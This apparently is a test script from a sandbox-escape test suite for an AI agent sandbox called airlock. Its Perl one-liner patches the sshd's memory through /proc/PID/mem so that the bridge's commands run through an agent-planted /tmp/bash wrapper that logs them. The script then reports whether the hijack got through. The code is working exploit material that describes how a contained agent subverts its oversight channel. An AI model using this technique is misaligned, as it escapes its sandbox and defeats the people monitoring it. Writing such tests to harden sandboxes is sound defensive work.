#!/bin/bash
# Follows 09 to a working hijack of the bridge's own commands, the path
# 682eff1 closed for ~/.bashrc (no-rc@airlock.dev sessions). The sshd looked
# up the agent's shell once at start ("/bin/bash", a string in its heap) and
# runs every session as SHELL -c CMD. The agent writes "/tmp/bash" over it
# through /proc/SSHD/mem (same uid, dumpable, no Yama), and /tmp/bash is its
# own wrapper: it logs each command line and runs /bin/bash. Then the user
# runs `airlock review` (the snapshot, a no-rc bridge session) and `airlock
# exec`. Got through when the wrapper logged the bridge's snapshot command:
# every command the bridge runs in the pod runs through the agent's program.
. "$(dirname "$0")/lib.sh"
need_cluster2
write_sandbox "$N"; up_sandbox "$N"
inside "$N" 'printf "%s\n" "#!/bin/sh" "printf \"%s\\n\" \"\$*\" >> /tmp/hijack.log" "exec /bin/bash \"\$@\"" > /tmp/bash && chmod 755 /tmp/bash
perl -e '\''
my ($p)=split /\n/, `pgrep -f "airlock-agent sshd"`; chomp $p;
open(M,"<","/proc/$p/maps") or die; open(my $mem,"+<:raw","/proc/$p/mem") or die "mem: $!\n";
my $n=0;
while(<M>){ my ($a,$b,$perm,$file)=/^([0-9a-f]+)-([0-9a-f]+) (\S+) \S+ \S+ \S+\s*(.*)$/; next unless $perm=~/^rw/ && $file eq "";
  my $len=hex($b)-hex($a); next if $len>256<<20; seek($mem,hex($a),0) or next; my $buf; sysread($mem,$buf,$len) or next;
  while($buf=~m{/bin/bash(?![-\w/])}g){ my $off=hex($a)+pos($buf)-9; seek($mem,$off,0); syswrite($mem,"/tmp/bash") and $n++ } }
print "patched $n copies of /bin/bash in sshd $p\n";'\''' > "$T/patch" 2>&1
cat "$T/patch"
grep -q 'patched [1-9]' "$T/patch" || { echo "nothing patched"; defended; }
timeout 200 airlock review "$N" > "$T/rev" 2>&1; echo "review: $(tail -1 "$T/rev")"
inside "$N" 'cat /tmp/hijack.log' > "$T/log" 2>&1
echo "--- the agent's wrapper saw:"; cut -c1-200 "$T/log" | head -8
grep -qE 'git|snapshot' "$T/log"; [ $? = 0 ] && gotthrough || defended
